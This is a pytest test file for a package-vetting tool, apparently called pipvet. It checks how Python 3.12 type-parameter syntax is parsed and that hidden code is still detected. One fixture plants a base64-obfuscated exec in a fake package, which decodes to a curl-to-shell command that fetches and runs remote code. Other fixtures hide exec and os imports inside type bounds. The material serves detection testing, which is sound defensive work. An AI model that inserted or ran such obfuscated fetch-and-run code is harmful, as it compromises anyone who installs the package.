"""Python 3.12 type parameter syntax: parsed on 3.11 without hiding code or moving lines."""

from __future__ import annotations

import ast

import pytest
from test_engine import make_sdist

from pipvet.analysis.engine import analyze_bytes
from pipvet.analysis.limits import Limits
from pipvet.analysis.parsing import parse_python
from pipvet.analysis.typeparams import strip_type_params
from pipvet.models import Verdict

NUMPY_STYLE = """\
from typing import Any

type _ArrayLike[T] = list[T] | tuple[T, ...]
type Shape = tuple[int, ...]


def first[T](items: _ArrayLike[T]) -> T:
    return items[0]


class Box[T: (int, str), *Ts, **P](object):
    def get[S](self, other: S) -> S | T:
        return other
"""


def _positions(tree: ast.Module) -> list[tuple[str, int, int]]:
    return [(type(n).__name__, n.lineno, n.col_offset) for n in ast.walk(tree) if isinstance(n, ast.stmt)]


def test_typed_module_parses_with_lines_and_columns_kept() -> None:
    tree, error = parse_python(NUMPY_STYLE, "pkg/_typing.py", Limits())
    assert error is None
    assert tree is not None
    assert _positions(tree) == [
        ("ImportFrom", 1, 0),
        ("Assign", 3, 0),
        ("Assign", 4, 0),
        ("FunctionDef", 7, 0),
        ("ClassDef", 11, 0),
        ("Return", 8, 4),
        ("FunctionDef", 12, 4),
        ("Return", 13, 8),
    ]
    assigns = [n for n in ast.walk(tree) if isinstance(n, ast.Assign)]
    names = [t.id for n in assigns for t in n.targets if isinstance(t, ast.Name)]
    assert names == ["_ArrayLike", "Shape"]


def test_lists_spanning_lines_keep_the_line_count() -> None:
    source = "class C[\n    T,\n    *Ts,\n](object):\n    x = 1\ntype X[\n  T\n] = list[T]\ny = 2\n"
    rewritten = strip_type_params(source)
    assert rewritten is not None
    assert rewritten.count("\n") == source.count("\n")
    tree = ast.parse(rewritten)
    kept = [(type(n).__name__, n.lineno) for n in tree.body]
    assert kept == [("ClassDef", 1), ("Assign", 6), ("Assign", 9)]


@pytest.mark.parametrize(
    "source",
    [
        "x = 1\n",  # nothing to rewrite
        "type = 3\nprint(type)\n",  # ``type`` as a plain name
        "def f[T: exec('cHJpbnQ=')](): pass\n",  # a bound with a call would be hidden
        "class C[T: (lambda: __import__('os'))]: pass\n",
        "class C[T: Lookup['aW1wb3J0IG9z']]: pass\n",  # data hidden in a bound
        "def f[T](x: T) -> T:\n    return f'{'nested'}'\n",  # only the tokenizer may fail: unchanged
    ],
)
def test_nothing_is_rewritten_that_should_not_be(source: str) -> None:
    rewritten = strip_type_params(source)
    if rewritten is not None:
        with pytest.raises(SyntaxError):
            ast.parse(rewritten)


def test_a_call_in_a_bound_keeps_the_file_unparsed() -> None:
    tree, error = parse_python("def f[T: exec('x')](): pass\n", "m.py", Limits())
    assert tree is None
    assert error is not None
    assert error.startswith("line 1:")


def test_code_after_a_type_statement_is_still_analysed() -> None:
    payload = (
        "import base64\n"
        "type Alias = dict[str, int]\n"
        "def run[T](x: T) -> T:\n"
        "    return x\n"
        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzEwLjAuMC4xL3ggfCBzaCIp'))\n"
    )
    setup = "from setuptools import setup\nimport mypkg\nsetup(name='demo', version='1.0')\n"
    pkg_info = "Name: demo\nVersion: 1.0\n"
    data = make_sdist({"setup.py": setup, "mypkg/__init__.py": payload, "PKG-INFO": pkg_info})
    analysis = analyze_bytes(data, "demo-1.0.tar.gz")
    assert analysis.unparsed == ()
    hits = [f for f in analysis.result.findings if f.path == "demo-1.0/mypkg/__init__.py" and f.line == 5]
    assert hits, analysis.result.findings
    assert analysis.result.verdict is not Verdict.CLEAN
